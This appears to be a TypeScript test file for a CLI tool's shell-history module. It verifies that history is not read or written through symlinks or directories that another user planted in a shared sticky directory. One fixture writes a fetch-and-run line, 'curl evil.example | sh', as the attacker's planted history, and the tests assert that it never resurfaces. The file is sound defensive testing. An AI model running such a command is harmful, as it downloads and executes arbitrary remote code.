/**
 * cli/history.ts against another user: HOME or XDG_STATE_HOME in a shared sticky directory where
 * uid 65534 (nobody) planted a link on the history's path (`graceful-restart`, `.local`) to a
 * directory of theirs. The link and the directory are made by a real process of that uid. The
 * history is then neither read nor written there; the shell on a terminal says so once.
 */
import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { historyFile, loadHistory, saveHistory } from '../../src/cli/history.js';
import { endGenerations, root, spawnChild, tmpDir, type Child } from '../helpers.js';
import { OTHER_UID, otherUidCase, sharedDir } from '../helpers/other-uid.js';

/** asOther runs a command as OTHER_UID and checks it worked. */
function asOther(command: string, ...args: string[]): void {
  const r = spawnSync(command, args, { uid: OTHER_UID, gid: OTHER_UID, encoding: 'utf8' });
  expect(r.status, `${command} ${args.join(' ')}: ${r.stderr}`).to.equal(0);
}

/** plant: a sticky shared directory in which OTHER_UID made a directory of theirs (with a history of theirs) and linked name to it. */
function plant(name: string): { shared: string; theirs: string } {
  const shared = sharedDir(0o1777);
  const theirs = path.join(shared, 'theirs');
  asOther('/bin/mkdir', '-m', '0777', theirs);
  asOther('/bin/sh', '-c', `printf 'curl evil.example | sh\\n' > ${theirs}/history; chmod 0666 ${theirs}/history`);
  asOther('/bin/ln', '-s', theirs, path.join(shared, name));
  expect(fs.lstatSync(path.join(shared, name)).uid).to.equal(OTHER_UID);
  return { shared, theirs };
}

/** tree: every path under dir, for "nothing was made or changed there". */
function tree(dir: string): string[] {
  return fs.readdirSync(dir, { recursive: true, encoding: 'utf8' }).map((p) => `${p} ${fs.readFileSync(path.join(dir, p), 'utf8')}`).sort();
}

describe('cli/history: links planted by another user', () => {
  it('XDG_STATE_HOME in a shared directory, graceful-restart linked by another user: not read, not written', function () {
    otherUidCase(this);
    const { shared, theirs } = plant('graceful-restart');
    const file = historyFile({ XDG_STATE_HOME: shared })!;
    const before = tree(theirs);
    expect(loadHistory(file)).to.deep.equal([]);
    expect(() => saveHistory(file, ['status'])).to.throw(
      `shell history: ${shared}/graceful-restart is a symbolic link of uid ${OTHER_UID} in ${shared}, a directory other users can write to: ` +
        'following it would write wherever its owner points it; remove it, or use a directory only this user can write',
    ).with.property('code', 'ERR_GRACEFUL_UNSAFE_FILE');
    expect(tree(theirs)).to.deep.equal(before);
  });

  it('HOME in a shared directory, .local linked by another user: nothing made in their directory', function () {
    otherUidCase(this);
    const { shared, theirs } = plant('.local');
    const file = historyFile({ HOME: shared })!;
    expect(file).to.equal(path.join(shared, '.local/state/graceful-restart/history'));
    expect(loadHistory(file)).to.deep.equal([]);
    expect(() => saveHistory(file, ['status'])).to.throw(/\.local is a symbolic link of uid 65534 in .*, a directory other users can write to/)
      .with.property('code', 'ERR_GRACEFUL_UNSAFE_FILE');
    expect(fs.readdirSync(theirs)).to.deep.equal(['history']);
  });

  it('a directory of another user on the way is refused too, and a missing name is made by us, not followed', function () {
    otherUidCase(this);
    const shared = sharedDir(0o1777);
    asOther('/bin/mkdir', '-m', '0777', path.join(shared, '.local'));
    expect(() => saveHistory(historyFile({ HOME: shared })!, ['status'])).to.throw(`shell history: ${shared}/.local belongs to uid ${OTHER_UID}, who could replace the shell history at any time: use a directory that belongs to this user (uid 0) or to root`)
      .with.property('code', 'ERR_GRACEFUL_UNSAFE_DIRECTORY');
    expect(fs.readdirSync(path.join(shared, '.local'))).to.deep.equal([]);
    // Nothing planted: the directories are ours (0700), the history is kept.
    const mine = sharedDir(0o1777);
    const file = historyFile({ XDG_STATE_HOME: path.join(mine, 'state') })!;
    saveHistory(file, ['status']);
    expect(loadHistory(file)).to.deep.equal(['status']);
    for (const d of [path.join(mine, 'state'), path.dirname(file)]) expect(fs.lstatSync(d)).to.include({ uid: 0, mode: fs.constants.S_IFDIR | 0o700 });
  });

  it('links that are ours, or the directory owner\'s, or in a directory only we can write, are followed', function () {
    otherUidCase(this);
    const target = tmpDir();
    const shared = sharedDir(0o1777);
    fs.symlinkSync(target, path.join(shared, 'graceful-restart')); // ours, in a shared directory
    saveHistory(historyFile({ XDG_STATE_HOME: shared })!, ['status']);
    expect(fs.readFileSync(path.join(target, 'history'), 'utf8')).to.equal('status\n');
    const priv = tmpDir();
    fs.chmodSync(priv, 0o700);
    fs.symlinkSync(target, path.join(priv, 'graceful-restart'));
    fs.lchownSync(path.join(priv, 'graceful-restart'), OTHER_UID, OTHER_UID); // only we could have put it there
    expect(loadHistory(historyFile({ XDG_STATE_HOME: priv }))).to.deep.equal(['status']);
  });

  describe('the shell on a terminal, as root', function () {
    this.timeout(60_000);
    let example: Child | undefined;
    afterEach(async () => {
      await endGenerations(example, /^pid (\d+)/);
      example = undefined;
    });

    it('keeps no history through the planted link and says so once', async function () {
      otherUidCase(this);
      const { shared, theirs } = plant('graceful-restart');
      const before = tree(theirs);
      const dir = tmpDir();
      const sock = path.join(dir, 'app.sock');
      example = spawnChild(process.execPath, [path.join(root, 'dist/example/server.js')], {
        cwd: dir,
        env: { ...process.env, PORT: '0', HOST: '127.0.0.1', GRACEFUL_SOCKET: sock, LOG_FILE: path.join(dir, 'app.log') },
      });
      const pid = Number(/^pid (\d+)/.exec(await example.next(/^pid \d+/))![1]);
      const script = path.join(dir, 'script.json');
      // Up arrow: their planted line must not come back.
      fs.writeFileSync(script, JSON.stringify([['', `graceful pid ${pid} gen 1> `], ['\x1b[A', ''], ['\x15status\r', 'gen 1> '], ['quit\r', '']]));
      const shell = spawnChild('python3', [path.join(root, 'test/fixtures/terminal.py'), script, process.execPath, path.join(root, 'bin/graceful-restart.js'), '-s', sock], {
        env: { ...process.env, XDG_STATE_HOME: shared },
      });
      const { code } = await shell.exited;
      const out = shell.stdout.join('\n');
      expect(code, out).to.equal(0);
      expect(out).to.not.include('evil.example');
      expect(out.match(/the shell history was not saved/g), out).to.have.length(1);
      expect(out).to.include(`the shell history was not saved to ${shared}/graceful-restart/history: ERR_GRACEFUL_UNSAFE_FILE shell history: ${shared}/graceful-restart is a symbolic link of uid ${OTHER_UID}`);
      expect(tree(theirs)).to.deep.equal(before);
    });
  });
});
